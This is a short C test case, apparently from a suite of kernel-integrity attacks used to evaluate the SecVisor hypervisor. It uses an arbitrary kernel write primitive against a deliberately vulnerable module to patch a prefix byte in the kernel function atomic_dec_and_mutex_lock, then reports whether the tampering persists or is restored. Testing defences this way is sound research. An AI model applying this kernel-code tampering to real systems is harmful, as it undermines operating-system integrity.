// Row 13. The variant that boot did not choose: on one CPU Linux has replaced LOCK by DS; in the code of a counter it becomes LOCK again. (The weaker direction needs a second CPU.)
// Source: text_poke sites as data of the attacker's choosing; the patching interfaces trust their tables.
// Ends: natively succeeded: it stays and runs; beneath SecVisor restored, tampered.
#include "common/attack.h"

ATTACK("lock-prefix")
{
	// It decrements a counter above 1 without taking the lock.
	u64 function = symbol("atomic_dec_and_mutex_lock"), at = find_bytes(function, 64, "\x3e\x0f\xb1", 3);
	u64 count = operate(VULNERABLE_BSS, 0, 0, 0) + PAGE / 2, five = 5;
	struct vulnerable_operation op = { .what = VULNERABLE_CALL_WITH, .in = { function, count, count + 64 } };
	u8 now = 0;

	keep_bytes(at, 1);
	kwrite(at, "\xf0", 1);
	kwrite(count, &five, 8);
	if (try_operate(&op) || kread64(count) != 4)
		failed("the counter is not decremented");
	kread(at, &now, 1);
	if (now == 0xf0)
		succeeded("the counter was decremented by code with the other variant");
	if (now == 0x3e)
		restored("the counter was decremented by code with the variant of boot");
	failed("there is %#x", now);
}
